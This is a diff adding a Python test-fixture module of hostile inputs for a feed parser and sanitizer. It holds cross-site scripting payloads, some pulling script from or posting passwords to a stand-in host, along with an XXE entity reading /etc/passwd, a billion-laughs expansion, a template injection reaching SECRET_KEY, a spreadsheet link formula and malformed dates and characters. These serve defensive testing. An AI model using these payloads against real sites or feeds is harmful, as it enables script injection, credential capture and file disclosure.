@@ -1,0 +1,107 @@
+"""What hostile feeds hold (tests.networks.hostile): values for their fields, and what stands before the feed."""
+
+from __future__ import annotations
+
+PAYLOADS = (
+    "<script>alert(document.domain)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    '<a href="javascript:alert(1)">Oferta</a>',
+    '<a href="JaVa&#09;ScRiPt:alert(1)">Oferta</a>',
+    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<base href='https://evil.example/'><form action=//evil.example><input name=password></form>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<template><script>alert(1)</script></template>",
+    "<!--><script>alert(1)</script-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "'\"><script>alert(1)</script>",
+    "{{constructor.constructor('alert(1)')()}}{% csrf_token %}{{ settings.SECRET_KEY }}",
+    "<body onpageshow=alert(1)><details open ontoggle=alert(1)>",
+    "<button onclick=alert(1)>Comprar</button><video><source onerror=alert(1)></video>",
+    "<x contenteditable onblur=alert(1)>lose focus!",
+    '=HYPERLINK("https://evil.example";"Ver")',
+    "<script>" * 30,
+)
+LINKS = (
+    "javascript:alert(1)",
+    " \tjava\nscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "file:///etc/passwd",
+    "//evil.example/x",
+    "http://[::1",
+    "http://user:pass@evil.example/",
+    'https://blog.example/"onmouseover=alert(1) x="',
+    "https://blog.example/<script>alert(1)</script>",
+    "http://" + "a" * 5000 + ".example/",
+    "",
+    "#",
+    "x" * 100_000,
+)
+DATES = (
+    "",
+    "ayer",
+    "Mon, 32 Foo 2026 99:99:99 +9999",
+    "0000-00-00T00:00:00Z",
+    "0001-01-01T00:00:00+14:00",
+    "9999-12-31T23:59:59-12:00",
+    "99999999999999999999",
+    "1969-12-31T23:59:59Z",
+    "2262-04-11T23:47:16.854775808Z",
+    "-2026-11-22",
+    "2026-02-30T25:61:61Z",
+    "Sun, 22 Nov 2026 10:00:60 GMT",
+    "令和8年11月22日",
+    "٢٠٢٦-١١-٢٢",
+    "2026-11-22T10:00:00" + "+00:00" * 2000,
+    "Sun, 22 Nov 2026 10:00:00 " + "(" * 5000,
+)
+CONTROLS = (
+    "\x00",
+    "\x01\x08\x0b\x0c\x1b[31m",
+    "\u202eatrés\u202c",
+    "\u2066aislado\u2069",
+    "\u200b\u200c\u200d\u2060\ufeff" * 40,
+    "Z\u0300\u0301\u0302\u0303\u0304\u0305" * 30,
+    "\ufdd0\ufffe\uffff",
+    "\U000e0041\U000e0042",
+    "\x85\u2028\u2029",
+    "\x80\x92",
+)
+REFERENCES = (
+    "&nada;",
+    "&#0;",
+    "&#x1F;",
+    "&#xD800;",
+    "&#x110000;",
+    "&#99999999999999;",
+    "& &; &#; &#x;",
+    "&LT;b&GT;",
+    "&amp;lt;",
+)
+CDATA = (
+    "<![CDATA[",
+    "]]>",
+    "<![CDATA[ <![CDATA[ x ]]> ]]>",
+    "<![CDATA[]]]]><![CDATA[>",
+    "<![CDATA[</item></channel>]]>",
+)
+PROLOGUES = (
+    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
+    + "".join(f'<!ENTITY {n} "{f"&{before};" * 10}">' for before, n in zip("abcdefgh", "bcdefghi", strict=True))
+    + "]>",
+    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "http://127.0.0.1:9/x.dtd">%d;]>',
+    '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">',
+    '<?xml version="1.0" encoding="x-nothing"?><?xml version="1.1"?>',
+    '<?xml-stylesheet href="javascript:alert(1)" type="text/xsl"?>',
+    "<br />\n<b>Warning</b>: Undefined variable $x in /var/www/wp.php on line 1<br />\n",
+    "\n" * 20_000,
+    "<!--" + "-" * 500,
+    "\ufeff\ufeff",
+)
